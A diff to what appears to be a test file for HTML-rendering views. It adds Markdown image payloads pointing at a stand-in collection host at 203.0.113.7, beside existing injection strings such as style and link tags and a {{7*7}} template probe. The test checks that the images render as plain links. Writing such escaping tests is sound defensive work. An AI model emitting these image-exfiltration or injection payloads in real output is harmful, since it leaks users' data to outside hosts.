@@ -40,6 +40,10 @@ PAYLOADS = [
     "<style>*{display:none}</style><link rel=stylesheet href=//x>",
     "]]><!-- --><![CDATA[ x ]]> &amp; &lt;b&gt; $\\frac{1}{0}$ {{7*7}}",
     "\x00\x1b[31m\x7f control",
+    # Pictures the browser would fetch (exfiltrating what the URL carries): inline and
+    # reference-style, in Markdown that the views render (summaries, replies).
+    "![x](http://203.0.113.7/collect?d=inline) [![y](http://203.0.113.7/n.png)](http://h/)",
+    "![x][r]\n\n[r]: http://203.0.113.7/collect?d=reference\n\n",
 ]
 TEXT = " ".join(PAYLOADS)
 #: What every payload must still read as, once the browser has unescaped it.
@@ -253,6 +257,10 @@ def test_every_view_escapes_everything(hostile: Session) -> None:
     # The payloads were shown as text, not dropped and not double-escaped.
     for fragment in VISIBLE:
         assert fragment in visible
+    # The summaries' Markdown ran through the one policy: the pictures are links to click.
+    summaries = "".join(CompactionView(e, s).to_html() for e in s.entries if e.type == "compaction")
+    assert '<a href="http://203.0.113.7/collect?d=reference" rel="noopener' in summaries
+    assert ">image: x</a>" in summaries and "<img" not in "".join(htmls)
     assert "window.__pinb_xss" in svg_text
     draw_tree(s).savefig(io.BytesIO(), format="png")  # `$` in labels is no mathtext error
 
